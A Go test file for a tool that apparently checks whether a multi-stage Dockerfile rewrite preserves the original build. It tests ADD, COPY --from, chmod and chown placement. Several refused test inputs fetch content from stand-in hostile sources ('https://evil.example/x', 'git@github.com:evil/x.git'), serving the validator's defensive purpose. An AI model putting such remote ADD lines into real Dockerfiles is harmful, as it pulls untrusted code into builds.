package split

import (
	"strings"
	"testing"
)

// What may be an ADD in a stage of its own, and what not.
func TestAdds(t *testing.T) {
	const file = "FROM golang:1.26\nWORKDIR /src\nENV AT=/src/ SITE=https://example.com\nADD . $AT\nADD https://example.com/x.tar.gz /src/\nRUN go build -o /app .\nRUN mv /src/web/* /srv/\nCMD [\"/app\"]\n"
	const build = "FROM golang:1.26 AS build\nWORKDIR /src\nENV AT=/src/ SITE=https://example.com\nADD . $AT\nADD https://example.com/x.tar.gz /src/\nRUN go build -o /app .\n"
	const final = "FROM debian:trixie-slim\nWORKDIR /src\nENV AT=/src/ SITE=https://example.com\n"
	const end = "COPY --from=build /app /app\nCMD [\"/app\"]\n"
	for name, test := range map[string]struct {
		added string
		taken bool
	}{
		"all of the context again":       {"ADD . $AT\nCOPY --from=build /src/web /srv\n", true},
		"contents of a folder":           {"COPY --from=build /src/web /srv/\n", true},
		"the folder itself":              {"COPY --from=build /src/web /srv/web\n", false},
		"another folder":                 {"COPY --from=build /src/data /srv\n", false},
		"contents elsewhere":             {"COPY --from=build /src/web /etc\n", false},
		"a download again":               {"ADD https://example.com/x.tar.gz /src/\nCOPY --from=build /src/web /srv\n", false},
		"a download of another file":     {"ADD https://evil.example/x /src/\nCOPY --from=build /src/web /srv\n", false},
		"a variable that may be a URL":   {"ADD $PART /src/\nCOPY --from=build /src/web /srv\n", false},
		"a variable that is a URL":       {"ADD $SITE/x /src/\nCOPY --from=build /src/web /srv\n", false},
		"a repository":                   {"ADD git@github.com:evil/x.git /src/\nCOPY --from=build /src/web /srv\n", false},
		"the move left out, and no copy": {"", false},
	} {
		t.Run(name, func(t *testing.T) {
			got := refused(file, build+"\n"+final+test.added+end)
			if taken := got == ""; taken != test.taken {
				t.Errorf("taken: %v, want %v: %s", taken, test.taken, got)
			}
		})
	}
	for name, test := range map[string]struct {
		added string
		taken bool
	}{
		"a folder":                            {"ADD web /src/web\n", true},
		"as a COPY":                           {"COPY web /src/web\n", true},
		"an archive, which is unpacked":       {"ADD web/data.tar.gz /src/web/\n", false},
		"to another folder":                   {"ADD web /etc\n", false},
		"above the context, which is its top": {"ADD ../web /src/web\n", true},
	} {
		t.Run("part/"+name, func(t *testing.T) {
			const file = "FROM golang:1.26\nWORKDIR /src\nADD . /src\nRUN go build -o /app .\nCMD [\"/app\"]\n"
			got := refused(file, "FROM golang:1.26 AS build\nWORKDIR /src\nADD . /src\nRUN go build -o /app .\n\nFROM debian:trixie-slim\nWORKDIR /src\n"+test.added+end)
			if taken := got == ""; taken != test.taken {
				t.Errorf("taken: %v, want %v: %s", taken, test.taken, got)
			}
		})
	}
}

// A chmod after a move has to be in the last stage, after the copy.
func TestMoveBeforeChmod(t *testing.T) {
	const file = "FROM node:24\nWORKDIR /app\nCOPY . .\nRUN npm run build\nRUN mv /app/build/* /app/static/\nRUN chmod +x /app/*\nCMD [\"node\", \"x.js\"]\n"
	const build = "FROM node:24 AS build\nWORKDIR /app\nCOPY . .\nRUN npm run build\n"
	const copied = "COPY --from=build /app/build /app/static\n"
	const mode = "RUN chmod +x /app/*\n"
	for name, test := range map[string]struct {
		build, final string
		taken        bool
	}{
		"after the copy":      {build, "COPY . .\n" + copied + mode, true},
		"before the copy":     {build, "COPY . .\n" + mode + copied, false},
		"in the build stage":  {build + mode, "COPY . .\n" + copied, false},
		"another mode":        {build, "COPY . .\n" + copied + "RUN chmod 777 /app/*\n", false},
		"and the copy is not": {build, "COPY . .\n" + mode, false},
	} {
		t.Run(name, func(t *testing.T) {
			got := refused(file, test.build+"\nFROM node:24-slim\nWORKDIR /app\n"+test.final+"CMD [\"node\", \"x.js\"]\n")
			if taken := got == ""; taken != test.taken {
				t.Errorf("taken: %v, want %v: %s", taken, test.taken, got)
			}
		})
	}
}

// A command that removes or protects a file of a folder that a copy brings in
// place of a cp has to be in the last stage, after the copy.
func TestMovesOfGuardedFolders(t *testing.T) {
	const file = "FROM node:24\nWORKDIR /app\nCOPY . .\nRUN npm run build\nRUN cp -r /app/build/* /srv/ && cp -r /app/share /srv/share\nRUN GUARD\nCMD [\"node\", \"x.js\"]\n"
	const build = "FROM node:24 AS build\nWORKDIR /app\nCOPY . .\nRUN npm run build\n"
	const copied = "COPY --from=build /app/build /srv/\nCOPY --from=build /app/share /srv/share\n"
	for _, guard := range []string{"rm /srv/key", "rm -rf /srv/share/key", "chmod 600 /srv/key", "chown root /srv/share/key"} {
		for name, test := range map[string]struct {
			build, final string
			taken        bool
		}{
			"after the copy":     {build, copied + "RUN GUARD\n", true},
			"in another order":   {build, "COPY --from=build /app/share /srv/share\nCOPY --from=build /app/build /srv/\nRUN GUARD\n", false},
			"before the copy":    {build, "RUN GUARD\n" + copied, false},
			"in the build stage": {build + "RUN GUARD\n", copied, false},
			"in no stage":        {build, copied, false},
			"without the copy":   {build + "RUN cp -r /app/build/* /srv/ && cp -r /app/share /srv/share\nRUN GUARD\n", "COPY --from=build /srv /srv\n", true},
		} {
			t.Run(guard+"/"+name, func(t *testing.T) {
				put := strings.NewReplacer("GUARD", guard)
				got := refused(put.Replace(file), put.Replace(test.build+"\nFROM node:24-slim\nWORKDIR /app\n"+test.final+"CMD [\"node\", \"x.js\"]\n"))
				if taken := got == ""; taken != test.taken {
					t.Errorf("taken: %v, want %v: %s", taken, test.taken, got)
				}
			})
		}
	}
}

// A copy with an owner may take the place of a cp of the contents of a folder, and
// of the chown -R after it.
func TestMovesWithOwners(t *testing.T) {
	const file = "FROM php:8-apache\nCOPY . /tmp/app\nRUN make -C /tmp/app\nRUN cp -R /tmp/app/. /srv && chown -R app:app /srv\nCMD [\"x\"]\n"
	const build = "FROM php:8-apache AS build\nCOPY . /tmp/app\nRUN make -C /tmp/app\n\nFROM php:8-apache\n"
	for name, test := range map[string]struct {
		last  string
		taken bool
	}{
		"with the owner":           {"COPY --from=build --chown=app:app /tmp/app/ /srv/\n", true},
		"with the command":         {"COPY --from=build /tmp/app /srv\nRUN chown -R app:app /srv\n", true},
		"without the owner":        {"COPY --from=build /tmp/app/ /srv/\n", false},
		"with another owner":       {"COPY --from=build --chown=root:root /tmp/app/ /srv/\n", false},
		"with an unknown owner":    {"COPY --from=build --chown=evil /tmp/app/ /srv/\n", false},
		"to another folder":        {"COPY --from=build --chown=app:app /tmp/app/ /etc/\n", false},
		"of another folder":        {"COPY --from=build --chown=app:app /tmp/ /srv/\n", false},
		"and another file without": {"COPY --from=build --chown=app:app /tmp/app/ /srv/\nCOPY --from=build /srv/x /srv/x\n", false},
	} {
		t.Run(name, func(t *testing.T) {
			got := refused(file, build+test.last+"CMD [\"x\"]\n")
			if taken := got == ""; taken != test.taken {
				t.Errorf("taken: %v, want %v: %s", taken, test.taken, got)
			}
		})
	}
}
